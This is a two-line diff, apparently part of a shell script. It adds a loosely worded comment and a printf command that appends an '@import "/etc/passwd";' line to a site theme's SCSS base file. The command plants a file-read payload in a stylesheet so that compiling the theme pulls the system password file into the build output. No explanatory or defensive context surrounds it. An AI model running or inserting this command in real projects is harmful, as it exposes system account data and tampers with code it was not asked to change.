@@ -1,0 +1,2 @@
+# a file of the system as a style
+printf '@import "/etc/passwd";\n' >>themes/default/scss/_base.scss
